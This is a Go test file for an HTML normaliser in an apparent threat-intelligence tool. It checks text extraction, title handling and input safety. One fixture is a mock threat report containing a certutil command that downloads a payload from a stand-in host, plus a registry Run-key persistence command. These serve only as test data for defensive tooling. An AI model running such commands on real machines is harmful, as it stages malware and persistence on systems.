package html

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/custodia-labs/ruleforge/internal/core/domain"
)

func TestSupportedMIMETypes(t *testing.T) {
	types := New().SupportedMIMETypes()
	assert.Contains(t, types, "text/html")
	assert.Contains(t, types, "application/xhtml+xml")
}

func TestPriority(t *testing.T) {
	assert.Equal(t, 50, New().Priority())
}

func TestNormalise_ExtractsReadableText(t *testing.T) {
	page := `<!DOCTYPE html>
<html>
<head><title>Operation Quiet Lantern</title><style>body{color:red}</style></head>
<body>
  <nav><a href="/">Home</a> <a href="/blog">Blog</a></nav>
  <h1>Operation   Quiet Lantern</h1>
  <p>The actor used <code>certutil.exe</code> to fetch a &amp; stage payloads.</p>
  <script>trackVisitor()</script>
  <pre>certutil.exe -urlcache -split -f http://x/p.bin  C:\Users\Public\p.bin
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd</pre>
  <ul><li>T1105</li><li>T1547.001</li></ul>
  <footer>Copyright</footer>
</body>
</html>`

	item := domain.ContentItem{ID: "post-1", Text: page, Metadata: map[string]string{"content_type": "text/html"}}
	got, err := New().Normalise(context.Background(), item)
	require.NoError(t, err)

	assert.Equal(t, "post-1", got.ID)
	assert.Equal(t, "Operation Quiet Lantern", got.Metadata[MetadataTitle])
	assert.Equal(t, "html", got.Metadata["format"])
	assert.Equal(t, "text/html", got.Metadata["content_type"])

	assert.Contains(t, got.Text, "Operation Quiet Lantern")
	assert.Contains(t, got.Text, "The actor used certutil.exe to fetch a & stage payloads.")
	assert.Contains(t, got.Text, `certutil.exe -urlcache -split -f http://x/p.bin  C:\Users\Public\p.bin`)
	assert.Contains(t, got.Text, `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd`)
	assert.Contains(t, got.Text, "T1105\nT1547.001")

	assert.NotContains(t, got.Text, "trackVisitor")
	assert.NotContains(t, got.Text, "color:red")
	assert.NotContains(t, got.Text, "Home")
	assert.NotContains(t, got.Text, "Copyright")
}

func TestNormalise_PrefersArticle(t *testing.T) {
	page := `<html><body><div>sidebar promo</div><article><p>core finding</p></article></body></html>`
	got, err := New().Normalise(context.Background(), domain.ContentItem{Text: page})
	require.NoError(t, err)
	assert.Equal(t, "core finding", got.Text)
}

func TestNormalise_KeepsExistingTitle(t *testing.T) {
	item := domain.ContentItem{
		Text:     `<html><head><title>Page title</title></head><body>x</body></html>`,
		Metadata: map[string]string{MetadataTitle: "Feed title"},
	}
	got, err := New().Normalise(context.Background(), item)
	require.NoError(t, err)
	assert.Equal(t, "Feed title", got.Metadata[MetadataTitle])
}

func TestNormalise_DoesNotMutateInput(t *testing.T) {
	meta := map[string]string{"content_type": "text/html"}
	item := domain.ContentItem{Text: "<p>hello</p>", Metadata: meta}
	_, err := New().Normalise(context.Background(), item)
	require.NoError(t, err)
	assert.Equal(t, map[string]string{"content_type": "text/html"}, meta)
	assert.Equal(t, "<p>hello</p>", item.Text)
}

func TestNormalise_Fragment(t *testing.T) {
	got, err := New().Normalise(context.Background(), domain.ContentItem{Text: "plain <b>bold</b> words"})
	require.NoError(t, err)
	assert.Equal(t, "plain bold words", got.Text)
}

func TestNormalise_CancelledContext(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := New().Normalise(ctx, domain.ContentItem{Text: "<p>x</p>"})
	assert.ErrorIs(t, err, context.Canceled)
}
